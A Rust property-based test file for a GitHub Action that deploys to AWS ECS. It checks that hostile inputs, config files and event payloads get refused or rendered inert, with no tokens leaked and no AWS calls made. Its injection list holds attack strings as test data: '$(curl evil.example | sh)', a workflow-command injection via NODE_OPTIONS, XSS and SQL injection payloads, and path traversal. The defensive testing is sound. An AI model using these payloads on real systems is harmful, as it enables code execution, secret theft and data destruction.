//! Hostile inputs, as properties (proptest): whatever arrives in the inputs, the config file or
//! the event payload, the action never panics, refuses with one clear error per problem that
//! names the input and the fix, and makes no AWS call before it is sure. Injection strings go
//! through every sink text flows into (log and workflow commands, step outputs, Markdown for the
//! summary, check runs and the PR comment), and each sink is checked against the parser that
//! reads it: the runner's command and output-file parsers (ported in `support::runner`).
//!
//! The pure properties run hundreds of cases in milliseconds; the binary properties run the
//! real process against the AWS simulator with fewer cases (each is a process start).
#![allow(clippy::disallowed_methods)] // tests drive real processes and servers in real time

mod support;

use std::collections::{BTreeMap, HashMap};
use std::io::Write;

use proptest::prelude::*;
use proptest::test_runner::{Config, TestRunner};
use serde_json::{json, Value};

use ecs_deploy_action::config::chain_file::{ChainFile, StageFile};
use ecs_deploy_action::config::stages::release_run as plan_stages;
use ecs_deploy_action::config::{validate, GithubContext, InputError, RawInputs};
use ecs_deploy_action::domain::promotion::bump_of;
use ecs_deploy_action::executor::chain::commit_messages;
use ecs_deploy_action::github::comment::{self, Row, MARKER};
use ecs_deploy_action::github::event::RunInfo;
use ecs_deploy_action::github::runtime::output_entry;
use ecs_deploy_action::github::{checks, commands, markdown};
use support::runner;
use support::{Aws, Sim};

/// Text that has broken tools like this one: markup, mentions, workflow commands in both
/// syntaxes and behind whitespace or a lone `\r`, escapes, heredoc delimiters, our own hidden
/// markers, shell and expression syntax, bidi and zero-width characters, NUL.
const INJECTIONS: &[&str] = &[
    "<img src=x onerror=alert(1)>",
    "<script>alert(1)</script>",
    "@acme/ops @octocat",
    "**bold** _it_ ~~s~~ [x](javascript:alert(1))",
    "![i](https://evil.example/t.png)",
    "::set-env name=NODE_OPTIONS::--require /tmp/x.js",
    "\n::error::injected",
    "  ::add-mask::x",
    "\t::stop-commands::t",
    "x ##[set-output name=a;]b",
    "##[error]legacy",
    "a\r::warning::cr",
    "| col | break |\n|---|---|",
    "```\n# heading\n```",
    "````",
    "$(curl evil.example | sh)",
    "`id`",
    "${{ secrets.GITHUB_TOKEN }}",
    "%0A%25::x%3A%2C",
    "\u{202E}txt.exe\u{200B}",
    "nul\u{0}byte",
    "ghadelimiter_0000000000000000",
    "EOF",
    "<!-- ecs-deploy-action:state {\"v\":1,\"rows\":[]} -->",
    "<!-- ecs-deploy-action:sticky -->",
    "-->",
    "</sub><h1>x</h1>",
    "&lt;escaped&gt;",
    "\\|\\",
    "a=b<<c",
    "'; DROP TABLE deploys; --",
    "../../etc/passwd",
    "https://evil.example/a b)c",
];

/// Every input of action.yml.
fn action_inputs() -> Vec<String> {
    let text = std::fs::read_to_string(support::repo_root().join("action.yml")).expect("action.yml");
    let doc: serde_yaml_ng::Value = serde_yaml_ng::from_str(&text).expect("action.yml parses");
    doc["inputs"]
        .as_mapping()
        .expect("inputs")
        .keys()
        .filter_map(|k| k.as_str().map(str::to_string))
        .collect()
}

fn injection() -> BoxedStrategy<String> {
    prop_oneof![
        4 => prop::sample::select(INJECTIONS).prop_map(str::to_string),
        1 => any::<String>(),
        1 => "[ -~]{0,24}",
    ]
    .boxed()
}

/// One to three pieces of hostile text, run together.
fn hostile() -> BoxedStrategy<String> {
    prop::collection::vec(injection(), 1..4)
        .prop_map(|v| v.concat())
        .boxed()
}

/// Values that pass (or nearly pass) each input's validation, so cases reach deep.
fn plausible(input: &str) -> Vec<&'static str> {
    match input {
        "cluster" => vec!["prod", "arn:aws:ecs:us-east-1:123456789012:cluster/prod"],
        "services" => vec!["api", "api,web", "api\nweb"],
        "image" => vec![
            "123456789012.dkr.ecr.us-east-1.amazonaws.com/app:v1",
            "nginx:1.25",
            "app@sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef",
        ],
        "containers" => vec!["app", "app=nginx:1", "app,web"],
        "aws-region" => vec!["us-east-1", "eu-central-2"],
        "wait-timeout" | "bake-time" | "keep-old-for" => vec!["10m", "30s", "0s"],
        "poll-interval" | "analysis-interval" | "smoke-timeout" => vec!["1s", "10s"],
        "rollback-on-failure" | "allow-unverified" => vec!["true", "false"],
        "stage" | "until" => vec!["dev", "staging", "prod"],
        "version" => vec!["1.2.3", "v2.0.0-rc.1"],
        "github-token" => vec!["ghs_abcdefghijklmnopqrstuvwxyz0123456789"],
        "strategy" => vec!["rolling", "canary", "linear", "blue-green", "all-at-once"],
        "listener-arn" | "test-listener-arn" => {
            vec![
                "arn:aws:elasticloadbalancing:us-east-1:123456789012:listener/app/lb/0123456789abcdef/0123456789abcdef",
            ]
        }
        "canary-steps" => vec!["5,10,25,50,100", "5,pause,100", "100"],
        "linear-step" => vec!["10", "25"],
        "alarms" => vec!["api-5xx", "a,b"],
        "max-5xx-rate" | "max-5xx-rate-increase" => vec!["1%", "0.01"],
        "max-p99-latency" => vec!["500ms", "2s"],
        "min-requests" | "failure-limit" => vec!["100", "1"],
        "on-inconclusive" => vec!["fail", "continue"],
        "smoke-url" => vec!["https://example.com/health"],
        "on-split" => vec!["rollback", "continue"],
        "command" => vec!["deploy", "plan", "rollback"],
        "to" => vec![
            "v1.2.3",
            "sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef",
        ],
        _ => vec![""],
    }
}

fn value_for(input: String) -> BoxedStrategy<(String, String)> {
    let good = plausible(&input);
    prop_oneof![
        3 => prop::sample::select(good).prop_map(str::to_string),
        3 => hostile(),
        1 => Just(String::new()),
        1 => Just("   ".to_string()),
    ]
    .prop_map(move |v| (input.clone(), v))
    .boxed()
}

/// A set of inputs: sometimes a valid base with a few replaced, sometimes anything.
fn input_set(names: Vec<String>) -> BoxedStrategy<Vec<(String, String)>> {
    let pair = prop::sample::select(names).prop_flat_map(value_for);
    (any::<bool>(), prop::collection::vec(pair, 0..8))
        .prop_map(|(base, extra)| {
            let mut set: Vec<(String, String)> = Vec::new();
            if base {
                for (k, v) in [
                    ("cluster", "prod"),
                    ("services", "api"),
                    ("image", "123456789012.dkr.ecr.us-east-1.amazonaws.com/app:v1"),
                ] {
                    set.push((k.to_string(), v.to_string()));
                }
            }
            for (k, v) in extra {
                set.retain(|(n, _)| n != &k);
                set.push((k, v));
            }
            set
        })
        .boxed()
}

fn raw_inputs(set: &[(String, String)]) -> Result<RawInputs, InputError> {
    RawInputs::from_vars(
        set.iter()
            .map(|(k, v)| (format!("INPUT_{}", k.to_uppercase()), v.clone())),
    )
}

/// What the run does without a config file: one stage made of the inputs.
fn single_stage(raw: &RawInputs) -> ChainFile {
    ChainFile {
        repository: None,
        resume_workflow: None,
        images: Default::default(),
        metrics: vec![],
        stages: vec![StageFile {
            name: raw
                .stage
                .clone()
                .filter(|s| !s.trim().is_empty())
                .unwrap_or("deploy".into()),
            environment: None,
            url: None,
            aws_role: None,
            version: None,
            metrics: vec![],
            inputs: Default::default(),
        }],
    }
}

/// An error a user can act on: it names an input of action.yml, says what is wrong and how to
/// fix it, and is one line of printable text that reaches the runner as exactly the `::error`
/// command we meant.
fn assert_actionable(errors: &[InputError], inputs: &[String]) -> Result<(), TestCaseError> {
    prop_assert!(!errors.is_empty(), "a refusal without a reason");
    for e in errors {
        prop_assert!(
            inputs.contains(&e.input) || e.input == "(inputs)",
            "the error names no input: {e:?}"
        );
        prop_assert!(!e.problem.trim().is_empty() && !e.fix.trim().is_empty(), "{e:?}");
        let text = e.to_string();
        prop_assert!(!text.chars().any(char::is_control), "control characters: {text:?}");
        prop_assert!(text.chars().count() < 4000, "unbounded: {} chars", text.chars().count());
        let title = format!("Invalid input: {}", e.input);
        let line = commands::error(&title, &text);
        let parsed = runner::commands(&line);
        prop_assert_eq!(parsed.len(), 1, "{:?}", line);
        prop_assert_eq!(&parsed[0].name, "error");
        prop_assert_eq!(&parsed[0].data, &text);
        prop_assert_eq!(parsed[0].properties.get("title"), Some(&title));
    }
    Ok(())
}

fn hostile_context(branch: &str, event_path: Option<String>) -> GithubContext {
    GithubContext {
        repository: Some("acme/shop".into()),
        sha: Some("0123456789abcdef0123456789abcdef01234567".into()),
        git_ref: Some(format!("refs/heads/{branch}")),
        run_id: Some("7".into()),
        event_path,
        ..Default::default()
    }
}

/// `cases` per property (`PROPTEST_CASES` overrides, for a long hunt); failures print the
/// minimal input instead of writing regression files into the tree.
fn config(cases: u32) -> Config {
    Config {
        cases: std::env::var("PROPTEST_CASES")
            .ok()
            .and_then(|v| v.parse().ok())
            .unwrap_or(cases),
        failure_persistence: None,
        ..Config::default()
    }
}

proptest! {
    #![proptest_config(config(400))]

    /// Inputs: validation and stage planning accept or refuse with actionable errors; never panic.
    #[test]
    fn any_inputs_are_accepted_or_refused_with_actionable_errors(
        set in input_set(action_inputs()),
        region_env in prop::option::of(prop_oneof![Just("us-east-1".to_string()), hostile()]),
        branch in hostile(),
    ) {
        let inputs = action_inputs();
        let raw = match raw_inputs(&set) {
            Ok(raw) => raw,
            Err(e) => return assert_actionable(&[e], &inputs),
        };
        let ctx = hostile_context(&branch, None);
        if let Err(errors) = validate(&raw, ctx.clone(), region_env.clone()) {
            assert_actionable(&errors, &inputs)?;
        }
        if let Err(errors) = plan_stages(&single_stage(&raw), &raw, &ctx, region_env) {
            assert_actionable(&errors, &inputs)?;
        }
    }

    /// Any text as a config file: parsed, or refused naming `config`; never a panic.
    #[test]
    fn any_text_as_a_config_file_is_parsed_or_refused(text in prop_oneof![any::<String>(), hostile()], path in hostile()) {
        if let Err(e) = ChainFile::parse(&text, &path) {
            prop_assert_eq!(&e.input, "config");
            assert_actionable(&[e], &action_inputs())?;
        }
    }

    /// Well-formed YAML with hostile keys, values and stage names: every stage the run may
    /// touch is validated, and every refusal is actionable.
    #[test]
    fn hostile_config_files_are_validated_before_anything_runs(
        file in chain_file(),
        set in input_set(vec!["command".into(), "stage".into(), "until".into(), "image".into(), "version".into(), "to".into()]),
    ) {
        let inputs = action_inputs();
        let yaml = serde_yaml_ng::to_string(&file).expect("yaml");
        let parsed = match ChainFile::parse(&yaml, "ecs-deploy.yml") {
            Ok(f) => f,
            Err(e) => return assert_actionable(&[e], &inputs),
        };
        let raw = match raw_inputs(&set) {
            Ok(raw) => raw,
            Err(e) => return assert_actionable(&[e], &inputs),
        };
        if let Err(errors) = plan_stages(&parsed, &raw, &hostile_context("main", None), Some("us-east-1".into())) {
            assert_actionable(&errors, &inputs)?;
        }
    }

    /// Any event payload (or none, or not JSON): read without a panic, and every piece of it
    /// that reaches a report is inert Markdown there.
    #[test]
    fn any_event_payload_is_read_safely_and_shown_inert(
        payload in prop_oneof![3 => event_payload().prop_map(|v| v.to_string()), 1 => any::<String>()],
        branch in hostile(),
        row_text in hostile(),
    ) {
        let mut file = tempfile::NamedTempFile::new().expect("tempfile");
        file.write_all(payload.as_bytes()).expect("write");
        let ctx = hostile_context(&branch, Some(file.path().display().to_string()));
        let _ = bump_of(&commit_messages(&ctx));
        let Some(info) = RunInfo::from_context(&ctx) else {
            return Ok(());
        };
        let table = checks::context_table(&info, None);
        assert_inert_table(&table, 2)?;

        assert_comment_inert(&row_text, &info)?;
    }

    /// Markdown escaping: no HTML, no mention, no formatting, one line.
    #[test]
    fn escaped_text_is_inert_markdown(s in hostile(), max in 1usize..300) {
        let e = markdown::escape(&s);
        assert_inert(&e)?;
        prop_assert!(!e.contains(['\n', '\r']));
        let mut chars = e.chars();
        while let Some(c) = chars.next() {
            if c == '\\' {
                prop_assert!(chars.next().is_some_and(|n| "\\`*_{}[]()#+-.!|~>".contains(n)), "{e}");
            } else {
                prop_assert!(!"`*_{}[]()#+-.!|~>".contains(c), "unescaped {c:?} in {e}");
            }
        }
        let cell = markdown::cell(&s, max);
        assert_inert(&cell)?;
        prop_assert!(cell.chars().count() <= 8 * max + 1);
        let plain = markdown::plain(&s, max);
        prop_assert!(plain.chars().count() <= max.max(1));
        prop_assert!(!plain.chars().any(char::is_control));
    }

    /// Inline code cannot be closed early or break its table row; a code block cannot be
    /// closed by the text inside it.
    #[test]
    fn code_cannot_be_closed_from_inside(s in hostile(), max in 1usize..200) {
        let c = markdown::code(&s, max);
        prop_assert!(c.starts_with('`') && c.ends_with('`'));
        prop_assert_eq!(c.matches('`').count(), 2, "{}", c);
        prop_assert!(!c.chars().any(char::is_control));
        prop_assert_eq!(unescaped_pipes(&c), 0, "{}", c);
        let block = markdown::code_block(&s);
        // CommonMark ends a line at \n, \r or \r\n.
        let lines: Vec<&str> = block.split(['\r', '\n']).collect();
        prop_assert!(lines.len() >= 2 && lines[lines.len() - 1] == "```");
        for l in &lines[1..lines.len() - 1] {
            let indent = l.len() - l.trim_start_matches(' ').len();
            prop_assert!(indent > 3 || !l.trim_start_matches(' ').starts_with("```"), "closes the fence: {l:?}");
        }
    }

    /// A link goes only to http(s), and nothing in the URL ends the link early.
    #[test]
    fn links_stay_links(text in hostile(), url in prop_oneof![hostile(), hostile().prop_map(|s| format!("https://x.example/{s}"))]) {
        let l = markdown::link(&text, &url);
        if l.starts_with('[') {
            let target = &l[l.rfind("](").expect("a link") + 2..l.len() - 1];
            prop_assert!(target.starts_with("https://") || target.starts_with("http://"));
            prop_assert!(!target.contains(|c: char| c.is_whitespace() || c.is_control() || "()<>\"'`|[]\\{}".contains(c)), "{target}");
            prop_assert!(l.ends_with(')'));
        } else {
            prop_assert_eq!(l, markdown::escape(&text));
        }
    }

    /// `::error`/`::warning`/`::notice` reach the runner as exactly what we meant, and untrusted
    /// log text never parses as a command in either syntax.
    #[test]
    fn workflow_commands_mean_what_we_meant(title in hostile(), message in hostile(), log in hostile()) {
        for (name, line) in [
            ("error", commands::error(&title, &message)),
            ("warning", commands::warning(&title, &message)),
            ("notice", commands::notice(&title, &message)),
        ] {
            let parsed = runner::commands(&line);
            prop_assert_eq!(parsed.len(), 1, "{:?}", line);
            prop_assert_eq!(&parsed[0].name, name);
            prop_assert_eq!(&parsed[0].data, &message);
            // The runner trims the property list, and drops an empty value.
            let expected = title.trim_end_matches(|c: char| c.is_whitespace());
            let got = parsed[0].properties.get("title").map(String::as_str).unwrap_or("");
            prop_assert_eq!(got.trim_end(), expected.trim_end());
        }
        let defused = commands::log_line(&log);
        prop_assert_eq!(runner::commands(&defused), vec![], "{:?}", defused);
        for l in commands::add_mask(&log) {
            let parsed = runner::commands(&l);
            prop_assert_eq!(parsed.len(), 1, "{:?}", l);
            prop_assert_eq!(&parsed[0].name, "add-mask");
        }
    }

    /// Step outputs: whatever the value, the runner reads back exactly it, under its own name,
    /// and nothing else.
    #[test]
    fn outputs_round_trip_through_the_runner(values in prop::collection::vec(hostile(), 1..5)) {
        let names = ["outcome", "rolled-back-reason", "image", "version", "digest"];
        let mut text = String::new();
        let mut expected = HashMap::new();
        for (name, value) in names.iter().zip(&values) {
            text.push_str(&output_entry(name, value));
            expected.insert(name.to_string(), value.clone());
        }
        let parsed = runner::parse_output_file(&text).map_err(TestCaseError::fail)?;
        prop_assert_eq!(parsed, expected);
    }
}

/// A chain file as YAML-able JSON: stages with plausible or hostile names, known and unknown
/// keys, and values of every YAML shape.
fn chain_file() -> impl Strategy<Value = Value> {
    let stage_name = prop_oneof![
        3 => prop::sample::select(vec!["dev", "staging", "prod"]).prop_map(str::to_string),
        1 => hostile(),
    ];
    let key = prop_oneof![
        4 => prop::sample::select(action_inputs()),
        1 => prop::sample::select(vec!["environment".to_string(), "url".to_string(), "version".to_string()]),
        1 => hostile(),
    ];
    let leaf = prop_oneof![
        hostile().prop_map(Value::from),
        any::<bool>().prop_map(Value::from),
        any::<i64>().prop_map(Value::from),
        any::<f64>()
            .prop_filter("finite", |f| f.is_finite())
            .prop_map(Value::from),
        Just(Value::Null),
        Just(json!("auto")),
    ];
    let value = leaf.prop_recursive(2, 8, 3, |inner| {
        prop_oneof![
            prop::collection::vec(inner.clone(), 0..3).prop_map(Value::from),
            prop::collection::btree_map("[a-z]{1,5}", inner, 0..3).prop_map(|m| json!(m)),
        ]
    });
    let stage = (stage_name, prop::collection::btree_map(key, value, 0..5)).prop_map(|(name, keys)| {
        let mut m: BTreeMap<String, Value> = keys.into_iter().collect();
        m.insert("name".into(), Value::from(name));
        json!(m)
    });
    (prop::option::of(hostile()), prop::collection::vec(stage, 0..4)).prop_map(|(repository, stages)| {
        let mut f = json!({ "stages": stages });
        if let Some(r) = repository {
            f["repository"] = Value::from(r);
        }
        f
    })
}

/// An event payload shaped like GitHub's (pull_request, push) with hostile text where users
/// type it, and wrong types where a careless reader would assume the right ones.
fn event_payload() -> impl Strategy<Value = Value> {
    let number = prop_oneof![
        any::<u64>().prop_map(Value::from),
        hostile().prop_map(Value::from),
        Just(Value::Null)
    ];
    let sha = prop_oneof![
        Just(json!("89abcdef0123456789abcdef0123456789abcdef")),
        hostile().prop_map(Value::from),
        any::<i64>().prop_map(Value::from),
    ];
    (
        prop::option::of((number, hostile(), hostile(), sha)),
        prop::option::of(hostile()),
        prop::collection::vec(hostile(), 0..4),
        prop::option::of(hostile()),
    )
        .prop_map(|(pr, head_message, commits, git_ref)| {
            let mut e = json!({});
            if let Some((number, title, head_ref, sha)) = pr {
                e["pull_request"] = json!({"number": number, "title": title, "head": {"ref": head_ref, "sha": sha}});
            }
            if let Some(m) = head_message {
                e["head_commit"] = json!({ "message": m });
            }
            e["commits"] = commits.into_iter().map(|m| json!({ "message": m })).collect();
            if let Some(r) = git_ref {
                e["ref"] = Value::from(format!("refs/heads/{r}"));
            }
            e
        })
}

/// Pipes that split a table row, by GFM's rule: a `|` right after a backslash is escaped,
/// whatever comes before that backslash.
fn unescaped_pipes(s: &str) -> usize {
    let chars: Vec<char> = s.chars().collect();
    (0..chars.len())
        .filter(|&i| chars[i] == '|' && (i == 0 || chars[i - 1] != '\\'))
        .count()
}

/// Markdown that renders as text: no HTML, no live mention, no NUL. Inline code spans and link
/// destinations show no markup, so what is inside them is not checked.
fn assert_inert(md: &str) -> Result<(), TestCaseError> {
    let outside_code: String = md
        .lines()
        .map(outside_code_spans)
        .map(|l| without_link_targets(&l))
        .collect::<Vec<_>>()
        .join("\n");
    prop_assert!(!outside_code.contains('<'), "HTML: {md}");
    // Inside code spans too: HTML outranks a code span (CommonMark 6.1), so a `<` that could
    // open a tag, a comment or an autolink must not be there either.
    let targets_out: String = md.lines().map(without_link_targets).collect::<Vec<_>>().join("\n");
    let opens_html = targets_out.char_indices().any(|(i, c)| {
        c == '<' && targets_out[i + 1..].starts_with(|n: char| n.is_ascii_alphabetic() || "!/?".contains(n))
    });
    prop_assert!(!opens_html, "HTML inside a code span: {}", md);
    let chars: Vec<char> = outside_code.chars().collect();
    for (i, c) in chars.iter().enumerate() {
        // An @ right after an ASCII word character ("web@sha256", "a@b.io") mentions nobody
        // on GitHub; any other must be defused.
        let after_word = i > 0 && (chars[i - 1].is_ascii_alphanumeric() || chars[i - 1] == '_');
        if *c == '@' && !after_word {
            prop_assert_eq!(chars.get(i + 1), Some(&'\u{200B}'), "a live mention: {}", md);
        }
    }
    prop_assert!(!md.contains('\u{0}'), "NUL");
    Ok(())
}

/// A line without its code spans, by GFM's rules: outside a span a backslash escapes the next
/// character (an escaped backtick opens nothing); a span runs from a backtick run to the next
/// run of the same length, with no escapes inside; an unmatched run is text.
fn outside_code_spans(line: &str) -> String {
    let chars: Vec<char> = line.chars().collect();
    let run_at = |i: usize| chars[i..].iter().take_while(|c| **c == '`').count();
    let mut out = String::new();
    let mut i = 0;
    while i < chars.len() {
        match chars[i] {
            '\\' if i + 1 < chars.len() => {
                out.push(chars[i]);
                out.push(chars[i + 1]);
                i += 2;
            }
            '`' => {
                let n = run_at(i);
                let mut j = i + n;
                let mut close = None;
                while j < chars.len() {
                    if chars[j] == '`' {
                        let m = run_at(j);
                        if m == n {
                            close = Some(j);
                            break;
                        }
                        j += m;
                    } else {
                        j += 1;
                    }
                }
                match close {
                    Some(j) => i = j + n,
                    None => {
                        out.extend(std::iter::repeat_n('`', n));
                        i += n;
                    }
                }
            }
            c => {
                out.push(c);
                i += 1;
            }
        }
    }
    out
}

/// A line without the `(destination)` of its links (our `link` percent-encodes what could
/// end one early; a URL is not a mention).
fn without_link_targets(line: &str) -> String {
    let mut out = String::new();
    let mut rest = line;
    while let Some(i) = rest.find("](") {
        out.push_str(&rest[..i + 1]);
        rest = &rest[i + 2..];
        match rest.find(')') {
            Some(j) => rest = &rest[j + 1..],
            None => return out,
        }
    }
    out.push_str(rest);
    out
}

/// The sticky comment with `row_text` in every cell: the hidden state reads back, nothing
/// closes it early, and every visible cell is inert.
fn assert_comment_inert(row_text: &str, info: &RunInfo) -> Result<(), TestCaseError> {
    let row = Row {
        stage: row_text.to_string(),
        outcome: row_text.to_string(),
        version: Some(row_text.to_string()),
        digest: Some(row_text.to_string()),
        strategy: row_text.to_string(),
        sha: row_text.to_string(),
        seconds: Some(61),
        run_url: Some(format!("https://github.com/acme/shop/actions/runs/{row_text}")),
        environment_url: Some(row_text.to_string()),
        reason: Some(row_text.to_string()),
        updated_at: Some(row_text.to_string()),
    };
    let body = comment::render(std::slice::from_ref(&row), info);
    prop_assert_eq!(
        comment::parse_rows(&body),
        vec![row],
        "the hidden state survives any text"
    );
    prop_assert!(
        body.starts_with(MARKER),
        "the marker that finds the comment again comes first"
    );
    let state = &body[body.find("<!-- ecs-deploy-action:state ").expect("a state block")..];
    prop_assert_eq!(
        state.matches("-->").count(),
        1,
        "nothing closes the hidden state early: {}",
        state
    );
    let visible = visible_comment(&body);
    assert_inert(&visible)?;
    for line in visible
        .lines()
        .filter(|l| l.starts_with("| ") && !l.starts_with("| Stage"))
    {
        prop_assert_eq!(unescaped_pipes(line), 10, "a row keeps its 9 cells: {}", line);
    }
    Ok(())
}

/// A two-column table of escaped values stays a two-column table.
fn assert_inert_table(md: &str, columns: usize) -> Result<(), TestCaseError> {
    assert_inert(md)?;
    for line in md.lines() {
        prop_assert_eq!(unescaped_pipes(line), columns + 1, "{}", line);
    }
    Ok(())
}

/// The comment without our own markup (marker, `<sub>`, hidden state).
fn visible_comment(body: &str) -> String {
    let without_state = match body.find("<!-- ecs-deploy-action:state ") {
        Some(i) => &body[..i],
        None => body,
    };
    without_state
        .replace(MARKER, "")
        .replace("<sub>", "")
        .replace("</sub>", "")
}

/// A GitHub token of the shape Actions issues; each case its own, so a leak cannot hide.
fn token() -> impl Strategy<Value = String> {
    "[A-Za-z0-9]{36}".prop_map(|s| format!("ghs_{s}"))
}

/// Inputs that must each be refused on their own, with hostile text in the value. What makes
/// each invalid sits before the hostile part, where trimming cannot remove it.
fn refused(input: &'static str, h: &str) -> (String, String) {
    let v = match input {
        "cluster" => format!("c x{h}"),
        "services" => format!("api/{h}"),
        "image" => format!("app:v1 x{h}"),
        "aws-region" => format!("moon-{h}"),
        "wait-timeout" => format!("soon{h}"),
        "poll-interval" => format!("fast{h}"),
        "rollback-on-failure" => format!("maybe{h}"),
        "stage" => format!("prod;{h}"),
        "version" => format!("latest{h}"),
        "strategy" => format!("sideways{h}"),
        "command" => format!("destroy{h}"),
        _ => unreachable!("{input}"),
    };
    (input.to_string(), v)
}

const REFUSABLE: &[&str] = &[
    "cluster",
    "services",
    "image",
    "aws-region",
    "wait-timeout",
    "poll-interval",
    "rollback-on-failure",
    "stage",
    "version",
    "strategy",
    "command",
];

/// Runs the real binary and requires what every refused run must show, whatever it was
/// given, including that it made no AWS call (counted by the simulator for this run alone),
/// and an error naming each of `must_name`.
fn run_refused(
    aws: &Aws,
    set: &[(&str, &str)],
    env: &[(&str, &str)],
    token: &str,
    must_name: &[String],
    inputs: &[String],
) -> Result<(), TestCaseError> {
    let before = Sim::shared().calls(&aws.access_key).len();
    let run = support::spawn_action(aws, set, env).wait();
    let calls = Sim::shared().calls(&aws.access_key);
    prop_assert!(
        calls.len() == before,
        "AWS calls before validation passed: {:?}\n{}",
        &calls[before..],
        run.stdout
    );
    prop_assert_eq!(run.code, 2, "exit code\n{}\n{}", run.stdout, run.stderr);
    let all = format!("{}\n{}", run.stdout, run.stderr);
    let cmds = runner::commands(&all);
    let errors: Vec<_> = cmds.iter().filter(|c| c.name == "error").collect();
    prop_assert!(!errors.is_empty(), "no ::error\n{}", run.stdout);
    for c in &cmds {
        prop_assert!(
            c.name == "error" || c.name == "add-mask",
            "a command we never meant: {:?}\n{}",
            c,
            run.stdout
        );
    }
    let mut named = Vec::new();
    for e in &errors {
        let title = e.properties.get("title").cloned().unwrap_or_default();
        let input = title.strip_prefix("Invalid input: ").unwrap_or("");
        prop_assert!(inputs.iter().any(|i| i == input), "names no input: {:?}", e);
        prop_assert!(e.data.contains("Fix: "), "says no fix: {:?}", e);
        named.push(input.to_string());
    }
    for r in must_name {
        prop_assert!(named.contains(r), "{} not named: {:?}", r, named);
    }
    for line in support::runner::log_lines(&all) {
        if line.contains(token) {
            prop_assert!(line.starts_with("::add-mask::"), "the token leaked: {}", line);
        }
    }
    prop_assert!(!run.summary.contains(token), "the token in the summary");
    prop_assert!(!run.output_text.contains(token), "the token in the outputs");
    let outputs = runner::parse_output_file(&run.output_text).map_err(TestCaseError::fail)?;
    prop_assert_eq!(outputs.get("outcome").map(String::as_str), Some("invalid-input"));
    Ok(())
}

fn event_file(payload: &Value) -> tempfile::NamedTempFile {
    let mut f = tempfile::NamedTempFile::new().expect("tempfile");
    f.write_all(payload.to_string().as_bytes()).expect("write");
    f
}

/// The real binary, given hostile inputs and a hostile event: refused with actionable errors,
/// no command we did not mean, no token anywhere, and not one AWS call.
#[test]
fn the_binary_refuses_hostile_inputs_without_touching_aws() {
    let rt = tokio::runtime::Runtime::new().expect("runtime");
    let aws = rt.block_on(Aws::new("hostile_inputs"));
    let inputs = action_inputs();
    let strategy = (
        prop::collection::vec((prop::sample::select(REFUSABLE), hostile()), 1..4),
        input_set(inputs.clone()),
        event_payload(),
        token(),
    );
    let mut runner = TestRunner::new(config(24));
    runner
        .run(&strategy, |(bad, extra, payload, token)| {
            let refused_inputs: Vec<(String, String)> = bad.iter().map(|(i, h)| refused(i, h)).collect();
            let mut set: Vec<(String, String)> = vec![
                ("cluster".into(), "prod".into()),
                ("services".into(), "api".into()),
                ("image".into(), Aws::image_uri("app", "v1")),
                ("github-token".into(), token.clone()),
            ];
            // Inputs that switch to the chain path stop at their own first error; keep them out
            // so every refused input is validated.
            let chain_only = ["github-token", "config", "command", "until", "to"];
            for (k, v) in extra.into_iter().filter(|(k, _)| !chain_only.contains(&k.as_str())) {
                set.retain(|(n, _)| n != &k);
                set.push((k, v));
            }
            for (k, v) in &refused_inputs {
                set.retain(|(n, _)| n != k);
                set.push((k.clone(), v.clone()));
            }
            // An environment variable cannot hold NUL; the runner cannot pass one either.
            for (_, v) in set.iter_mut() {
                *v = v.replace('\0', "");
            }
            let event = event_file(&payload);
            let branch = payload["ref"].as_str().unwrap_or("refs/heads/main").replace('\0', "");
            let pairs: Vec<(&str, &str)> = set.iter().map(|(k, v)| (k.as_str(), v.as_str())).collect();
            // Validation reports every bad input at once, except that a bad `command` comes
            // first: it decides what else there is to validate.
            let names: Vec<String> = if refused_inputs.iter().any(|(k, _)| k == "command") {
                vec!["command".into()]
            } else {
                refused_inputs.iter().map(|(k, _)| k.clone()).collect()
            };
            let env = [
                ("GITHUB_EVENT_PATH", event.path().display().to_string()),
                ("GITHUB_EVENT_NAME", "pull_request".to_string()),
                ("GITHUB_REF", branch),
            ];
            let env: Vec<(&str, &str)> = env.iter().map(|(k, v)| (*k, v.as_str())).collect();
            run_refused(&aws, &pairs, &env, &token, &names, &inputs)?;
            Ok(())
        })
        .unwrap_or_else(|e| panic!("{e}"));
}

/// The real binary, given hostile config files: refused before any AWS call, naming the file
/// or the stage input at fault.
#[test]
fn the_binary_refuses_hostile_config_files_without_touching_aws() {
    let rt = tokio::runtime::Runtime::new().expect("runtime");
    let aws = rt.block_on(Aws::new("hostile_config"));
    let inputs = action_inputs();
    let strategy = (chain_file(), hostile(), token());
    let mut runner = TestRunner::new(config(16));
    runner
        .run(&strategy, |(mut file, h, token)| {
            // Make sure it is refused: a stage with an unknown (hostile) key, or none at all.
            let unknown = format!("x-{h}");
            match file["stages"].as_array_mut() {
                Some(stages) if !stages.is_empty() => {
                    stages[0][unknown.as_str()] = json!(h);
                }
                _ => {}
            }
            let yaml = serde_yaml_ng::to_string(&file).expect("yaml");
            let mut config = tempfile::NamedTempFile::new().expect("tempfile");
            config.write_all(yaml.as_bytes()).expect("write");
            let path = config.path().display().to_string();
            let set = [
                ("config", path.as_str()),
                ("stage", "dev"),
                ("image", "123456789012.dkr.ecr.us-east-1.amazonaws.com/app:v1"),
                ("github-token", token.as_str()),
            ];
            // The file is parsed before anything else, and an unknown key (or no stage) is
            // always the file's fault.
            let names = ["config".to_string()];
            run_refused(&aws, &set, &[], &token, &names, &inputs)?;
            Ok(())
        })
        .unwrap_or_else(|e| panic!("{e}"));
}

/// Found by the property above (CI, 2026-12-07): a reason quoting our own state marker in
/// backticks rendered as an HTML comment, because HTML outranks a code span.
#[test]
fn a_reason_quoting_the_state_marker_does_not_hide_the_comment() {
    let ctx = hostile_context("<img src=x onerror=alert(1)>", None);
    let info = RunInfo::from_context(&ctx).expect("a run");
    let text = "`<!-- ecs-deploy-action:state {\"v\":1,\"rows\":[]} -->```\n# heading\n```";
    assert_comment_inert(text, &info).expect("inert");
}

#[test]
fn the_injection_list_covers_each_sink_syntax() {
    // A guard on the corpus itself: each kind of attack stays represented.
    for needle in [
        "<", "@", "::", "##[", "\r", "\n", "|", "```", "%0A", "<<", "-->", "\u{0}",
    ] {
        assert!(
            INJECTIONS.iter().any(|s| s.contains(needle)),
            "no injection string with {needle:?}"
        );
    }
}
